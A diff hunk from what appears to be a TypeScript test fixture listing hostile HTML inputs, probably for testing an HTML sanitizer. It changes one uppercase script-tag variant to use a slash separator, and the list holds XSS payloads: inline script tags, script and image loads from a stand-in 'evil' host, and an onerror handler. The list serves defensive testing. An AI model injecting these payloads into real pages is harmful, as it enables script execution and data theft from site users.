@@ -14,7 +14,7 @@ export const hostileHtml: readonly string[] = [
   `<script>${run}</script>`,
   `</script><script>${run}</script>`,
   `<script src=${evil}/a.js></script>`,
-  `<SCRIPT\tSRC="${evil}/b.js"></SCRIPT>`,
+  `<SCRIPT/SRC="${evil}/b.js"></SCRIPT>`,
   `<img src=x onerror="${run}">`,
   `<img src=${evil}/pixel.png>`,
   `<img srcset="${evil}/2x.png 2x" src="">`,
